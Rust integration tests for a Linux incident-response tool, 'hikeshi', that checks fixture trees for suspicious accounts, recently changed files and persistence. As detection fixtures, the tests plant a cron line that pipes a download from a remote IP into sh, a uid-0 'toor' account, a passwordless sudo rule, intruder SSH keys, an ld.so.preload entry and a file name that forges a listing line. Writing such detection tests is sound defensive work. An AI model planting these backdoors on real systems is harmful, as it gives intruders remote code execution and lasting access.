//! Integration tests of `hikeshi accounts`, `hikeshi recent` and `hikeshi
//! persistence` on fixture trees built in temporary directories.
//!
//! Needs root (as CI runs): files are chowned to other users, a tmpfs is
//! mounted inside a fixture (unmounted by a Drop guard) to prove `recent`
//! stays on one filesystem, and `setpriv` runs the binary as `nobody` to
//! meet an unreadable directory.

use std::fs;
use std::io::Write;
use std::os::unix::fs::{chown, symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, SystemTime};

use serde_json::Value;

/// A temporary environment: a fixture root, a data dir, an empty config.
struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        let dir = tempfile::tempdir().unwrap();
        // Readable by `nobody` for the unreadable-directory test.
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        fs::create_dir_all(dir.path().join("root")).unwrap();
        fs::create_dir_all(dir.path().join("data")).unwrap();
        fs::write(dir.path().join("hikeshi.toml"), "").unwrap();
        Env { dir }
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("root")
    }

    /// Writes `text` at `path` under the fixture root, creating directories.
    fn write(&self, path: &str, text: impl AsRef<[u8]>) -> PathBuf {
        let p = self.root().join(path.trim_start_matches('/'));
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, text).unwrap();
        p
    }

    fn base_args(&self) -> Vec<String> {
        vec![
            "--data-dir".into(),
            self.dir.path().join("data").display().to_string(),
            "--config".into(),
            self.dir.path().join("hikeshi.toml").display().to_string(),
        ]
    }

    fn run(&self, args: &[&str]) -> Output {
        let mut all = self.base_args();
        all.extend(args.iter().map(|a| a.to_string()));
        hikeshi::exec::command(env!("CARGO_BIN_EXE_hikeshi"), &all).output().unwrap()
    }

    fn json(&self, args: &[&str]) -> (Value, i32) {
        let out = self.run(args);
        let code = out.status.code().unwrap();
        assert!(code == 0 || code == 1, "exit {code}: {}", String::from_utf8_lossy(&out.stderr));
        let v: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)));
        (v, code)
    }
}

fn kinds(doc: &Value) -> Vec<(String, String)> {
    let mut k: Vec<(String, String)> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (f["kind"].as_str().unwrap().to_string(), f["subject"].as_str().unwrap().to_string())
        })
        .collect();
    k.sort();
    k
}

fn has(doc: &Value, kind: &str, subject: &str) -> bool {
    kinds(doc).iter().any(|(k, s)| k == kind && s == subject)
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
contest:x:1001:1001:Contest Judge:/home/contest:/bin/bash
weather:x:1002:1002:temperature probe:/home/weather:/bin/bash
ann:x:1003:1003:Badminton club,,,:/home/ann:/bin/bash
";
const SHADOW: &str = "root:*:20000:0:99999:7:::
daemon:*:20000:0:99999:7:::
backup:*:20000:0:99999:7:::
contest:$y$j9T$abc$def:19000:0:99999:7:::
weather:!:19000:0:99999:7:::
ann:$6$x$y:19000:0:99999:7:::
";
const GROUP: &str = "root:x:0:\nsudo:x:27:\nadm:x:4:\n";

fn clean_system(env: &Env) {
    env.write("/etc/passwd", PASSWD);
    env.write("/etc/shadow", SHADOW);
    env.write("/etc/group", GROUP);
    env.write("/etc/login.defs", "UID_MIN 1000\n");
    env.write(
        "/etc/sudoers",
        "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    );
    env.write("/etc/sudoers.d/README", "# files with a dot are not read: evil ALL=(ALL) ALL\n");
    env.write("/etc/sudoers.d/x.bak", "evil ALL=(ALL) ALL\n");
}

#[test]
fn accounts_clean_system_has_only_the_debian_backup_account() {
    let env = Env::new();
    clean_system(&env);
    let root = env.root().display().to_string();
    let (doc, code) = env.json(&["accounts", "--root", &root, "--json"]);
    assert_eq!(code, 0);
    // Debian's own `backup` account matches a runbook keyword, at low
    // severity because it cannot log in; contest/temperature/badminton do not.
    assert_eq!(kinds(&doc), [("suspicious_keyword".to_string(), "backup".to_string())]);
    assert_eq!(doc["findings"][0]["severity"], "low");
    assert_eq!(doc["details"]["accounts"], 6);
    assert_eq!(doc["findings_sha256"].as_str().unwrap().len(), 64);
}

#[test]
fn accounts_every_finding_in_a_hostile_tree() {
    let env = Env::new();
    clean_system(&env);
    let passwd = format!(
        "{PASSWD}toor:x:0:0::/root:/bin/bash\nsvc:x:120:120::/var/lib/svc:/bin/bash\nopen:x:1010:1010::/home/open:/bin/bash\n\
ftp:x:121:121::/srv/ftp:/usr/sbin/nologin\nweb-admin:x:1011:1011:Web Admin:/home/web-admin:/bin/bash\ntwin:x:1001:1001::/home/twin:/bin/bash\n\
broken:x:12\ncafé:x:notanumber:1::/:/bin/sh\n"
    );
    let mut passwd = passwd.into_bytes();
    passwd.extend_from_slice(b"bad\xff:x:1020:1020::/:/bin/sh\n");
    passwd.extend_from_slice(&vec![b'z'; 100_000]);
    passwd.extend_from_slice(b"\n");
    env.write("/etc/passwd", passwd);
    env.write(
        "/etc/shadow",
        format!("{SHADOW}open::20000:0:99999:7:::\nftp:$6$s$h:20000:0:99999:7:::\n"),
    );
    env.write("/etc/group", "root:x:0:\nsudo:x:27:web-admin\nadm:x:4:\n");
    env.write("/etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n@include extra\n");
    env.write("/etc/sudoers.d/90-svc", "svc ALL=(ALL) NOPASSWD: ALL\n");
    env.write("/etc/extra", "User_Alias OPS = twin\nOPS ALL=(root) /usr/bin/systemctl\n");
    env.write(
        "/var/lib/svc/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIevil intruder@x\n",
    );
    let root = env.root().display().to_string();
    let (doc, code) = env.json(&["accounts", "--root", &root, "--json"]);
    assert_eq!(code, 1, "high findings give exit code 1");
    for (kind, subject) in [
        ("uid0_non_root", "toor"),
        ("system_account_login_shell", "svc"),
        ("system_account_authorized_keys", "svc"),
        ("empty_password", "open"),
        ("nologin_with_password", "ftp"),
        ("suspicious_keyword", "web-admin"),
        ("privileged_group", "web-admin"),
        ("duplicate_uid", "twin"),
        ("sudoers_rule", "svc"),
        ("sudoers_rule", "twin"),
        ("sudoers_rule", "%sudo"),
    ] {
        assert!(has(&doc, kind, subject), "{kind} {subject} missing: {:#?}", kinds(&doc));
    }
    let malformed: Vec<u64> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "malformed_line")
        .map(|f| f["evidence"][0]["line"].as_u64().unwrap())
        .collect();
    let mut malformed = malformed;
    malformed.sort();
    assert_eq!(
        malformed,
        [13, 14, 15, 16],
        "too few fields, non-numeric uid, non-UTF-8, huge line"
    );
    // The sudoers evidence names the included file and line.
    let svc_rule = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "sudoers_rule" && f["subject"] == "svc")
        .unwrap();
    assert_eq!(svc_rule["evidence"][0]["file"], "/etc/sudoers.d/90-svc");
    assert_eq!(svc_rule["evidence"][0]["line"], 1);
    // No hash ever reaches the output.
    let text = serde_json::to_string(&doc).unwrap();
    assert!(!text.contains("$6$s$h") && !text.contains("$y$j9T"), "hash leaked");

    // The table says the same, in Japanese on request.
    let out = env.run(&["accounts", "--root", &root, "--lang", "ja"]);
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(table.contains("uid0_non_root") && table.contains("別名の root"), "{table}");
}

#[test]
fn accounts_never_follow_symlinks_out_of_the_root() {
    let env = Env::new();
    clean_system(&env);
    let outside = env.dir.path().join("host-shadow");
    fs::write(&outside, "root::19000:0:99999:7:::\n").unwrap();
    let shadow = env.root().join("etc/shadow");
    fs::remove_file(&shadow).unwrap();
    symlink(&outside, &shadow).unwrap();
    let root = env.root().display().to_string();
    let (doc, _) = env.json(&["accounts", "--root", &root, "--json"]);
    let warnings = doc["warnings"].to_string();
    assert!(warnings.contains("/etc/shadow") && warnings.contains("not followed"), "{warnings}");
    assert!(!has(&doc, "empty_password", "root"), "the host's file was read");
}

#[test]
fn accounts_baseline_then_new_account_and_key() {
    let env = Env::new();
    clean_system(&env);
    env.write("/home/contest/.ssh/authorized_keys", "ssh-ed25519 AAAAold contest@laptop\n");
    let root = env.root().display().to_string();
    let out = env.run(&["accounts", "--root", &root, "--baseline"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("baseline recorded"));
    let stored = env.dir.path().join("data/baselines/accounts.json");
    assert_eq!(fs::metadata(&stored).unwrap().permissions().mode() & 0o777, 0o600);

    // The intruder adds an account and a key to an existing one.
    let mut passwd =
        fs::OpenOptions::new().append(true).open(env.root().join("etc/passwd")).unwrap();
    passwd.write_all(b"helper:x:1050:1050::/home/helper:/bin/bash\n").unwrap();
    env.write(
        "/home/contest/.ssh/authorized_keys",
        "ssh-ed25519 AAAAold contest@laptop\nssh-rsa AAAAnew intruder\n",
    );
    let (doc, code) = env.json(&["accounts", "--root", &root, "--json"]);
    assert_eq!(code, 1);
    assert!(has(&doc, "account_added", "helper"), "{:#?}", kinds(&doc));
    assert!(has(&doc, "authorized_key_added", "contest"), "{:#?}", kinds(&doc));
    assert!(doc["details"]["baseline_taken_at"].is_string());
    let key = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "authorized_key_added")
        .unwrap();
    assert_eq!(key["evidence"][0]["line"], 2);
}

fn set_mtime(path: &Path, when: SystemTime) {
    fs::File::options().write(true).open(path).unwrap().set_modified(when).unwrap();
}

fn pause() {
    // File timestamps come from a coarse clock: make "before" and "after" distinct.
    std::thread::sleep(Duration::from_millis(30));
}

/// Builds a tree for `recent`: files before and after a reference file.
fn recent_fixture(env: &Env) -> PathBuf {
    env.write("/old.txt", "old");
    env.write("/skipme/new-but-excluded", "x");
    pause();
    let reference = env.dir.path().join("reference");
    fs::write(&reference, "").unwrap();
    pause();
    env.write("/etc/new.conf", "new");
    let backdated = env.write("/usr/bin/backdated", "tampered");
    set_mtime(&backdated, SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000_000));
    let suid = env.write("/usr/bin/suid", "x");
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).unwrap();
    let sticky = env.write("/tmp/sticky", "x");
    fs::set_permissions(&sticky, fs::Permissions::from_mode(0o1644)).unwrap();
    let owned = env.write("/home/u/file", "0123456789");
    chown(&owned, Some(4242), Some(4243)).unwrap();
    fs::hard_link(&owned, env.root().join("home/u/link")).unwrap();
    // Never followed: a link to a directory full of fresh files, and to a file.
    let outside = env.dir.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::write(outside.join("fresh"), "x").unwrap();
    symlink(&outside, env.root().join("linkdir")).unwrap();
    symlink(outside.join("fresh"), env.root().join("linkfile")).unwrap();
    // Skipped like /proc on a real root.
    env.write("/proc/fresh", "x");
    // Names come from the fixture's own passwd: root only, so 4242 stays a number.
    env.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    env.write("/etc/group", "root:x:0:\n");
    reference
}

fn lines(out: &Output) -> Vec<String> {
    String::from_utf8_lossy(&out.stdout).lines().map(String::from).collect()
}

#[test]
fn recent_window_ctime_excludes_and_symlinks() {
    let env = Env::new();
    let reference = recent_fixture(&env);
    let root = env.root().display().to_string();
    let exclude = format!("{root}/skipme");
    let out = env.run(&[
        "recent",
        "--newer-than",
        &reference.display().to_string(),
        "--root",
        &root,
        "--exclude",
        &exclude,
        "--format",
        "jsonl",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let files: Vec<Value> = lines(&out).iter().map(|l| serde_json::from_str(l).unwrap()).collect();
    let paths: Vec<String> = files
        .iter()
        .map(|f| f["path"].as_str().unwrap().strip_prefix(&root).unwrap().to_string())
        .collect();
    // etc/passwd and etc/group were written after the reference too.
    assert_eq!(
        paths,
        [
            "/etc/group",
            "/etc/new.conf",
            "/etc/passwd",
            "/home/u/file",
            "/home/u/link",
            "/tmp/sticky",
            "/usr/bin/backdated",
            "/usr/bin/suid"
        ]
    );
    let backdated =
        files.iter().find(|f| f["path"].as_str().unwrap().ends_with("backdated")).unwrap();
    assert_eq!(backdated["changed"], serde_json::json!(["ctime"]));
    assert!(backdated["mtime"].as_str().unwrap().starts_with("2001-09-09"));
    let owned =
        files.iter().find(|f| f["path"].as_str().unwrap().ends_with("home/u/file")).unwrap();
    assert_eq!((owned["owner"].as_str(), owned["group"].as_str()), (Some("4242"), Some("4243")));

    // A window by duration: everything here is fresh except nothing.
    let out = env.run(&["recent", "--since", "1h", "--root", &root, "--format", "jsonl"]);
    assert_eq!(lines(&out).len(), 10, "old.txt and the excluded file are fresh by ctime");
    let out = env.run(&["recent", "--since", "1x", "--root", &root]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("24h"));
}

#[test]
fn recent_ls_lines_match_gnu_ls() {
    let env = Env::new();
    let reference = recent_fixture(&env);
    // Also an old file: ls shows its year instead of the time.
    let root = env.root().display().to_string();
    let out = hikeshi::exec::command(
        env!("CARGO_BIN_EXE_hikeshi"),
        env.base_args().into_iter().chain(
            ["recent", "--newer-than", &reference.display().to_string(), "--root", &root]
                .map(String::from),
        ),
    )
    .env("TZ", "Asia/Tokyo")
    .output()
    .unwrap();
    let ours = lines(&out);
    assert_eq!(ours.len(), 8, "{ours:#?}");
    let mut saw_year = false;
    let mut saw_suid = false;
    for line in &ours {
        let path = line.rsplit(' ').next().unwrap();
        let ls = hikeshi::exec::command("ls", ["-l", path])
            .env("LC_ALL", "C")
            .env("TZ", "Asia/Tokyo")
            .output()
            .unwrap();
        assert!(ls.status.success());
        assert_eq!(line, String::from_utf8(ls.stdout).unwrap().trim_end(), "for {path}");
        saw_year |= line.contains(" 2001 ");
        saw_suid |= line.starts_with("-rwsr-xr-x");
    }
    assert!(saw_year && saw_suid, "{ours:#?}");
    assert!(ours.iter().any(|l| l.starts_with("-rw-r--r-T")));
    assert!(ours.iter().any(|l| l.starts_with("-rw-r--r-- 2 4242 4243 10 ")));
}

/// Unmounts a tmpfs when dropped, even when the test fails.
struct Mount(PathBuf);

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = hikeshi::exec::run("umount", [&self.0]);
    }
}

#[test]
fn recent_stays_on_one_filesystem() {
    let env = Env::new();
    env.write("/a/fresh", "x");
    let mnt = env.root().join("a/mnt");
    fs::create_dir_all(&mnt).unwrap();
    let name = format!("hk-eradicate-{}", std::process::id());
    hikeshi::exec::run(
        "mount",
        ["-t", "tmpfs", "-o", "size=1m", &name, &mnt.display().to_string()],
    )
    .unwrap();
    let _guard = Mount(mnt.clone());
    fs::write(mnt.join("on-tmpfs"), "x").unwrap();
    let root = env.root().display().to_string();
    let out = env.run(&["recent", "--since", "1h", "--root", &root]);
    let listed = lines(&out);
    assert_eq!(listed.len(), 1, "{listed:#?}");
    assert!(listed[0].ends_with("/a/fresh"));
    assert!(String::from_utf8_lossy(&out.stderr).contains("1 other filesystems not entered"));
    // Asked to, or given as a root of its own, the other filesystem is walked.
    let out = env.run(&["recent", "--since", "1h", "--root", &root, "--all-filesystems"]);
    assert_eq!(lines(&out).len(), 2);
    let out = env.run(&[
        "recent",
        "--since",
        "1h",
        "--root",
        &root,
        "--root",
        &mnt.display().to_string(),
    ]);
    assert_eq!(lines(&out).len(), 2);
}

#[test]
fn recent_reports_unreadable_directories_and_goes_on() {
    let env = Env::new();
    env.write("/open/fresh", "x");
    env.write("/closed/hidden", "x");
    fs::set_permissions(env.root().join("closed"), fs::Permissions::from_mode(0o000)).unwrap();
    // Root reads everything: run a copy of the binary as nobody.
    // A hard link needs no write descriptor, which another test's fork
    // could inherit and make exec fail with ETXTBSY; copy if on another fs.
    let bin = env.dir.path().join("hikeshi");
    if fs::hard_link(env!("CARGO_BIN_EXE_hikeshi"), &bin).is_err() {
        fs::copy(env!("CARGO_BIN_EXE_hikeshi"), &bin).unwrap();
    }
    let data = env.dir.path().join("nobody-data");
    fs::create_dir_all(&data).unwrap();
    chown(&data, Some(65534), Some(65534)).unwrap();
    let root = env.root().display().to_string();
    let args = [
        "--reuid=65534".to_string(),
        "--regid=65534".into(),
        "--clear-groups".into(),
        "--".into(),
        bin.display().to_string(),
        "--data-dir".into(),
        data.display().to_string(),
        "--config".into(),
        env.dir.path().join("hikeshi.toml").display().to_string(),
        "recent".into(),
        "--since".into(),
        "1h".into(),
        "--root".into(),
        root.clone(),
    ];
    let mut out = hikeshi::exec::command("setpriv", &args).output().unwrap();
    for _ in 0..50 {
        if !String::from_utf8_lossy(&out.stderr).contains("Text file busy") {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
        out = hikeshi::exec::command("setpriv", &args).output().unwrap();
    }
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains(&format!("cannot read {root}/closed")), "{stderr}");
    assert!(stderr.contains("1 unreadable"), "{stderr}");
    assert_eq!(lines(&out).len(), 1);
    fs::set_permissions(env.root().join("closed"), fs::Permissions::from_mode(0o755)).unwrap();
}

fn persistence_fixture(env: &Env) {
    env.write(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    env.write("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    env.write("/etc/cron.d/e2scrub", "30 3 * * 0 root /sbin/e2scrub_all\n");
    env.write("/etc/systemd/system/multi-user.target.wants/.keep", "");
    env.write("/home/alice/.bashrc", "alias ll='ls -l'\n");
    env.write("/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAalice alice@laptop\n");
    let su = env.write("/usr/bin/su", "ELF");
    fs::set_permissions(&su, fs::Permissions::from_mode(0o4755)).unwrap();
}

#[test]
fn persistence_baseline_then_intruder_changes() {
    let env = Env::new();
    persistence_fixture(&env);
    let root = env.root().display().to_string();
    let (doc, _) = env.json(&["persistence", "--root", &root, "--baseline", "--json"]);
    assert_eq!(doc["details"]["baseline_recorded"], true);
    // Everything was just created: without a baseline the 24h window reports it.
    assert!(has(&doc, "cron_recent", "/etc/crontab"), "{:#?}", kinds(&doc));

    let (doc, code) = env.json(&["persistence", "--root", &root, "--json"]);
    assert_eq!(code, 0);
    assert!(kinds(&doc).is_empty(), "nothing changed since the baseline: {:#?}", kinds(&doc));

    env.write("/etc/cron.d/updater", "* * * * * root curl -s http://203.0.113.5/x | sh\n");
    env.write("/etc/systemd/system/sysupdate.service", "[Service]\nExecStart=/tmp/.x\n");
    symlink(
        "/etc/systemd/system/sysupdate.service",
        env.root().join("etc/systemd/system/multi-user.target.wants/sysupdate.service"),
    )
    .unwrap();
    env.write("/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libsystemd-shim.so\n");
    env.write(
        "/home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAAalice alice@laptop\nssh-rsa AAAAevil x\n",
    );
    env.write("/home/alice/.config/systemd/user/agent.service", "[Service]\nExecStart=%h/.a\n");
    env.write("/etc/rc.local", "#!/bin/sh\n/tmp/.x &\n");
    let shell = env.write("/var/tmp/.sh", "ELF");
    fs::set_permissions(&shell, fs::Permissions::from_mode(0o6755)).unwrap();
    fs::remove_file(env.root().join("etc/cron.d/e2scrub")).unwrap();

    let (doc, code) = env.json(&["persistence", "--root", &root, "--json"]);
    assert_eq!(code, 1);
    let got = kinds(&doc);
    for (kind, subject) in [
        ("cron_added", "/etc/cron.d/updater"),
        ("systemd_unit_added", "/etc/systemd/system/sysupdate.service"),
        ("systemd_unit_added", "/etc/systemd/system/multi-user.target.wants/sysupdate.service"),
        ("ld_so_preload_added", "/etc/ld.so.preload"),
        ("ld_so_preload_present", "/etc/ld.so.preload"),
        ("authorized_keys_changed", "/home/alice/.ssh/authorized_keys"),
        ("user_systemd_unit_added", "/home/alice/.config/systemd/user/agent.service"),
        ("rc_local_added", "/etc/rc.local"),
        ("setuid_added", "/var/tmp/.sh"),
        ("cron_removed", "/etc/cron.d/e2scrub"),
    ] {
        assert!(
            got.iter().any(|(k, s)| k == kind && s == subject),
            "{kind} {subject} missing: {got:#?}"
        );
    }
    let cron =
        doc["findings"].as_array().unwrap().iter().find(|f| f["kind"] == "cron_added").unwrap();
    assert_eq!(cron["severity"], "high");
    assert!(cron["evidence"][1]["text"].as_str().unwrap().contains("203.0.113.5"));
    assert_eq!(cron["evidence"][1]["line"], 1);
    let link = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["subject"] == "/etc/systemd/system/multi-user.target.wants/sysupdate.service")
        .unwrap();
    assert!(link["evidence"][0]["text"]
        .as_str()
        .unwrap()
        .contains("-> /etc/systemd/system/sysupdate.service"));
}

#[test]
fn persistence_window_without_baseline_and_symlinked_keys() {
    let env = Env::new();
    persistence_fixture(&env);
    // A key file that is a link to the host: never read, reported as a link.
    fs::remove_file(env.root().join("home/alice/.ssh/authorized_keys")).unwrap();
    symlink("/etc/shadow", env.root().join("home/alice/.ssh/authorized_keys")).unwrap();
    let root = env.root().display().to_string();
    let (doc, code) =
        env.json(&["persistence", "--root", &root, "--since", "1h", "--no-setuid-scan", "--json"]);
    assert_eq!(code, 1);
    let got = kinds(&doc);
    assert!(
        got.iter()
            .any(|(k, s)| k == "authorized_keys_recent" && s == "/home/alice/.ssh/authorized_keys"),
        "{got:#?}"
    );
    assert!(got.iter().all(|(k, _)| !k.starts_with("setuid")), "{got:#?}");
    let keys = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "authorized_keys_recent")
        .unwrap();
    assert!(keys["evidence"][0]["text"].as_str().unwrap().contains("-> /etc/shadow"));
    assert!(!serde_json::to_string(&doc).unwrap().contains("root:"), "the link target was read");
}

#[test]
fn recent_escapes_hostile_file_names() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let env = Env::new();
    let name = OsStr::from_bytes(b"evil\n-rw-r--r-- 1 root root 0 Jan  1 00:00 forged\xff");
    fs::write(env.root().join(name), "x").unwrap();
    let root = env.root().display().to_string();
    let out = env.run(&["recent", "--since", "1h", "--root", &root]);
    let listed = lines(&out);
    assert_eq!(listed.len(), 1, "a newline in a name must not forge a line: {listed:#?}");
    assert!(out.stdout.ends_with(b"evil\\n-rw-r--r-- 1 root root 0 Jan  1 00:00 forged\xff\n"));
    let out = env.run(&["recent", "--since", "1h", "--root", &root, "--format", "jsonl"]);
    let file: Value = serde_json::from_slice(&out.stdout).unwrap();
    let hex = file["path_hex"].as_str().unwrap();
    assert!(hex.ends_with("666f72676564ff"), "{hex}");
    assert!(file["path"].as_str().unwrap().ends_with(" forged\u{fffd}"));
}
